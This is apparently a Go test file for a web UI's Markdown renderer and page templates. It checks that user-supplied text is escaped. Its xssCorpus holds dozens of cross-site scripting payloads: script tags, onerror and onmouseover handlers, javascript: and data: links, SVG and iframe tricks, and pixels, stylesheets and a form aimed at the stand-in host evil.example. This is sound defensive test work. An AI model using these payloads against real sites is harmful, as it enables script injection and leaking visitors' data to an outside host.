package webui

import (
	"regexp"
	"strings"
	"testing"

	"flyleaf/qa"
)

// xssCorpus is text that tries to run something, or to fetch something, where it
// is shown. Every entry sets window.ran or asks another host when it succeeds.
var xssCorpus = []string{
	`<script>window.ran=1</script>`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<img src=x onerror=window.ran=1>`,
	`<img src="https://evil.example/pixel.gif">`,
	`![a picture](https://evil.example/pixel.png)`,
	`![](https://evil.example/pixel.png "title")`,
	`[![both](https://evil.example/in.png)](https://evil.example/out)`,
	`[click](javascript:window.ran=1)`,
	`[click](JaVaScRiPt:window.ran=1)`,
	"[click](java\tscript:window.ran=1)",
	"[click](&#106;avascript:window.ran=1)",
	"[click](javascript&colon;window.ran=1)",
	`[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)`,
	`[click](vbscript:msgbox(1))`,
	`[click](file:///etc/passwd)`,
	`[click](//evil.example/relative)`,
	`[click](/e/x/withdraw)`,
	`[click](http:/e/x/withdraw)`,
	`[](http:)`,
	`[click](https://evil.example/" onmouseover="window.ran=1)`,
	`[click](<https://evil.example/ onload=window.ran=1>)`,
	`[a]: javascript:window.ran=1` + "\n\n[a]",
	`<javascript:window.ran=1>`,
	`<https://evil.example/"onclick="window.ran=1">`,
	`https://evil.example/"><script>window.ran=1</script>`,
	`www.evil.example/'onmouseover='window.ran=1`,
	"```\"><script>window.ran=1</script>\nx\n```",
	"```js onload=window.ran=1\nx\n```",
	"`<script>window.ran=1</script>`",
	"    <script>window.ran=1</script>",
	`<svg onload=window.ran=1>`,
	`<svg><script>window.ran=1</script></svg>`,
	`<math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>`,
	`<iframe src="javascript:window.ran=1"></iframe>`,
	`<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
	`<object data="https://evil.example/x"></object>`,
	`<embed src="https://evil.example/x">`,
	`<base href="https://evil.example/">`,
	`<link rel=stylesheet href=https://evil.example/x.css>`,
	`<style>@import url(https://evil.example/x.css);</style>`,
	`<p style="background:url(https://evil.example/x)">x</p>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example/">`,
	`<form action=https://evil.example/><input name=csrf><button>Ask</button></form>`,
	`<textarea></textarea><script>window.ran=1</script>`,
	`</textarea><script>window.ran=1</script>`,
	`</div></article></main><script>window.ran=1</script>`,
	`<!--><script>window.ran=1</script>-->`,
	`<![CDATA[<script>window.ran=1</script>]]>`,
	`<?php window.ran=1 ?>`,
	`<a href="https://evil.example" ping="https://evil.example/ping" onclick=window.ran=1>x</a>`,
	`<video><source onerror=window.ran=1></video>`,
	`<details open ontoggle=window.ran=1>`,
	`<noscript><p title="</noscript><img src=x onerror=window.ran=1>">`,
	`<template><script>window.ran=1</script></template>`,
	`{{.Node}} {{template "x"}} ${window.ran=1}`,
	"| a | b |\n|---|:-:|\n| <img src=x onerror=window.ran=1> | ![p](https://evil.example/t.png) |",
	"> quote <script>window.ran=1</script>\n\n- list <img src=x onerror=window.ran=1>",
	"# heading <script>window.ran=1</script>",
	"\u0000<scr\u0000ipt>window.ran=1</script>",
	"\xff\xfe<script>window.ran=1</script>",
	`&lt;script&gt;window.ran=1&lt;/script&gt;`,
	`&#60;script&#62;window.ran=1&#60;/script&#62;`,
	`" autofocus onfocus="window.ran=1`,
	`' onmouseover='window.ran=1`,
}

var (
	element = regexp.MustCompile(`<(/?)([A-Za-z!?][^\s/>]*)([^>]*)>`)
	allowed = map[string]bool{
		"p": true, "br": true, "hr": true, "strong": true, "em": true, "del": true, "code": true, "pre": true, "ul": true, "ol": true, "li": true,
		"blockquote": true, "table": true, "thead": true, "tbody": true, "tr": true, "th": true, "td": true, "a": true,
	}
	attributes = regexp.MustCompile(`^( (href="(https?://|mailto:)[^"]*"|rel="noopener nofollow noreferrer"|class="language-[A-Za-z0-9_+#-]+"|start="[0-9]+"|tabindex="0"))*\s*/?$`)
)

func TestMarkdownLetsNothingThrough(t *testing.T) {
	for _, text := range xssCorpus {
		out := string(Markdown(text))
		for _, m := range element.FindAllStringSubmatch(out, -1) {
			if !allowed[strings.ToLower(m[2])] {
				t.Errorf("%q gives the element %s", text, m[0])
			}
			if !attributes.MatchString(m[3]) {
				t.Errorf("%q gives the attributes of %s", text, m[0])
			}
		}
		for _, a := range regexp.MustCompile(`<a[^>]*>`).FindAllString(out, -1) {
			if !strings.Contains(a, `rel="`+linkRel+`"`) {
				t.Errorf("%q gives a link without its rel: %s", text, a)
			}
		}
	}
}

// The same texts in every other place where a person's words can stand.
func TestPagesEscapeNamesTitlesAndTags(t *testing.T) {
	s := newSite(t, "")
	w := s.node.weeks[s.event]
	for _, text := range xssCorpus {
		w.event.Title, w.event.Authors, w.event.Description = text, text, text
		w.event.Links = []qa.Link{{Text: text, URL: text}, {Text: text, URL: "https://example.org/" + text}}
		w.people[obi] = qa.Person{ID: obi, Name: text}
		w.posts[3].OnBehalfOf = text
		w.posts[7].Marks.Hidden = text
		w.posts[0].Tags = []string{text}
		w.posts[0].Reactions = []qa.Reaction{{By: obi, Emoji: text}}
		w.relay.Why, w.relay.URL, w.relay.State = text, text, qa.RelayOffline
		s.node.settings[SettingName] = text
		id := string(w.posts[0].ID)
		for _, path := range []string{"/", "/you", "/sync", s.week(), s.week() + "/p/" + id, "/?join=" + "%3Cscript%3Ewindow.ran=1%3C/script%3E"} {
			page := s.get(path)
			mustNotContain(t, page, "<script>", "<img", "<iframe", "<SCRIPT", "<svg onload", "<style", "<base", "<form action=https", "onerror=window.ran=1>", `" onmouseover="`, `href="javascript`, "ZgotmplZ")
		}
		rec := s.send(s.week()+"/ask", "body", text, "onBehalfOf", text, "preview", "1")
		mustNotContain(t, rec.Body.String(), "<script>", "<img", "<iframe", "<SCRIPT", "<svg onload", "<style", "<base")
	}
}
